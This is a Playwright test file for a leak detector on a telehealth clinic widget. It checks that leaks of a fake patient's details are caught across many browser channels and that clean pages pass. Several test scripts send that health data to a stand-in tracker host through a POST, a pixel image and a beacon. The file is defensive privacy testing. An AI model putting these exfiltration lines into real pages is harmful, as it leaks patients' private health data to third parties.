// Checks the leak detector of canary.long.spec.ts: it reports every kind of leak, and nothing on a clean page.
import { expect, type Browser } from '@playwright/test';
import { found } from './canary/find.ts';
import { leaks, watch } from './canary/record-bodies.ts';
import { person, pickedCanaries, typedCanaries } from './canary/words.ts';
import { test } from './test.ts';

const host = 'http://clinic.localhost';
const api = 'http://api.test/prod';
const slot = '2026-12-01T22:30:00.000Z';
const canaries = [...typedCanaries, ...pickedCanaries([slot], 'Dr Sienna Abdallah')];

async function play(browser: Browser, script: string, look: (told: () => Promise<string[]>) => Promise<void>) {
  const context = await browser.newContext();
  const watched = await watch(context, { hosts: [host], api, widget: '.tele' });
  await context.route('**', (route) =>
    route.request().url() === `${host}/`
      ? route.fulfill({
          contentType: 'text/html',
          body: '<!doctype html><title>Clinic</title><body><div class="tele"></div><tele-widget></tele-widget>',
        })
      : route.fulfill({ contentType: 'text/plain', body: '', headers: { 'access-control-allow-origin': '*' } }),
  );
  const page = await context.newPage();
  await page.goto(`${host}/`);
  await page.evaluate(
    ({ code, values }) => {
      const { body } = document;
      const root = document.querySelector('tele-widget')?.attachShadow({ mode: 'open' });
      // oxlint-disable-next-line typescript/no-implied-eval -- what a page's script might do, one line each
      return new Function('person', 'root', 'body', `return (async () => { ${code} })()`)(
        values,
        root,
        body,
      ) as unknown;
    },
    { code: script, values: person },
  );
  await page.evaluate(() => window.postMessage('the last word', '*'));
  await expect.poll(async () => (await watched.seen()).some(({ text }) => text.includes('the last word'))).toBe(true);
  await look(async () => leaks(await watched.seen(), canaries));
  await context.close();
}

const leaking: readonly (readonly [what: string, script: string])[] = [
  [
    'an event',
    `body.dispatchEvent(new CustomEvent('tele:search', { detail: { v: 1, data: { reason: person.reason } } }))`,
  ],
  [
    'an event of the shadow root',
    `root.dispatchEvent(new CustomEvent('tele:x', { composed: true, detail: person.name }))`,
  ],
  ['an address of the page', `history.pushState(null, '', '?q=' + encodeURIComponent(person.reason))`],
  ['what the history keeps', `history.replaceState({ medicare: person.medicare }, '')`],
  ['an address that is left again', `location.hash = person.street; history.replaceState(null, '', '/')`],
  [
    'the query of a call to the service',
    `await fetch('${api}/x?specialty=' + encodeURIComponent('Gastroenterology & Hepatology'))`,
  ],
  [
    'a header of a call to the service',
    `await fetch('${api}/x', { headers: { 'x-who': encodeURIComponent(person.name) } })`,
  ],
  [
    'a referrer',
    `history.replaceState(null, '', '/' + encodeURIComponent(person.name)); await fetch('${host}/a'); history.replaceState(null, '', '/')`,
  ],
  [
    'a body to anybody else',
    `await fetch('https://pixel.test/', { method: 'POST', body: btoa(unescape(encodeURIComponent(person.reason))) })`,
  ],
  [
    'a picture of a pixel',
    `new Image().src = 'https://pixel.test/?' + new URLSearchParams({ ev: JSON.stringify({ phone: person.phone }) })`,
  ],
  ['a beacon', `navigator.sendBeacon('https://pixel.test/', JSON.stringify({ dob: person.dob }))`],
  ['local storage', `localStorage.setItem('a', person.reason)`],
  ['storage that is emptied again', `sessionStorage.setItem('a', person.medicare); sessionStorage.clear()`],
  ['a cookie', `document.cookie = 'a=' + encodeURIComponent(person.name)`],
  [
    'an indexed database',
    `await new Promise((done) => { const open = indexedDB.open('a'); open.onupgradeneeded = () => open.result.createObjectStore('s');
      open.onsuccess = () => { open.result.transaction('s', 'readwrite').objectStore('s').put(person.reason, 1).onsuccess = done; }; })`,
  ],
  ['a cache', `await (await caches.open('a')).put('/x', new Response(person.reason))`],
  ['the console', `console.debug('searching', { reason: person.reason })`],
  ['an error', `setTimeout(() => { throw new Error(person.name) })`],
  ['the title', `document.title = '${slot}'`],
  ['an attribute', `body.setAttribute('data-slot', String(Date.parse('${slot}')))`],
  ['an attribute that is taken away again', `body.dataset.x = person.phone; await 0; delete body.dataset.x`],
  [
    'an element beside the widget',
    `body.append(Object.assign(document.createElement('p'), { textContent: person.name }))`,
  ],
  ['a message to the page', `window.postMessage({ who: person.name }, '*')`],
  ['the name of the window', `window.name = person.name`],
  ['a mark of the timeline', `performance.mark('search ' + person.reason)`],
  ['a channel to other tabs', `new BroadcastChannel('a').postMessage(person.reason)`],
  [
    'what is typed beside the widget, for whoever listens',
    `const box = document.createElement('input'); body.append(box); box.value = person.name; box.dispatchEvent(new Event('input', { bubbles: true }))`,
  ],
];

test('the watch reports every leak of a page', async ({ browser }) => {
  for (const [what, script] of leaking)
    // Reported a moment later: a beacon, and an uncaught error.
    await play(browser, script, (told) => expect.poll(told, what).not.toEqual([]));
});

test('text inside the widget or in an API request body is no leak', async ({ browser }) => {
  const clean = `root.innerHTML = '<p title="' + person.name + '"></p>'; root.firstChild.textContent = person.reason;
    document.querySelector('.tele').append(person.reason); document.querySelector('.tele').title = person.name;
    await fetch('${api}/selections', { method: 'POST', body: JSON.stringify(person) });
    body.dispatchEvent(new CustomEvent('tele:selection-created', { detail: { v: 1, data: { selectionId: 'sel_1' } } }))`;
  await play(browser, clean, async (told) => expect(await told()).toEqual([]));
});

test('a word is found in every encoding', () => {
  const { reason } = person;
  const base64 = (text: string) => Buffer.from(text).toString('base64');
  const writings: readonly string[] = [
    reason,
    reason.toUpperCase(),
    reason.normalize('NFD'),
    encodeURIComponent(reason),
    encodeURIComponent(encodeURIComponent(reason)),
    new URLSearchParams({ reason }).toString(),
    JSON.stringify({ detail: JSON.stringify({ reason }) }),
    Array.from(reason, (letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
    Array.from(reason, (letter) => `&#${letter.codePointAt(0)};`).join(''),
    base64(reason),
    Buffer.from(reason).toString('base64url'),
    Buffer.from(reason).toString('hex'),
    `https://pixel.test/a/${base64(JSON.stringify({ reason }))}?x=1`,
    `eyJhbGciOiJIUzI1NiJ9.${Buffer.from(JSON.stringify({ sub: 'usr_1', reason })).toString('base64url')}.c2lnbmF0dXJl`,
    `d=${encodeURIComponent(base64(encodeURIComponent(reason)))}`,
  ];
  for (const writing of writings) expect(found(writing, canaries), writing).toEqual(['reason']);
  expect(found('5 of 10 picked, $15.00, 2026-12-02T22:30:00.000Z, sel_01JD3K9, Gastric', canaries)).toEqual([]);
});
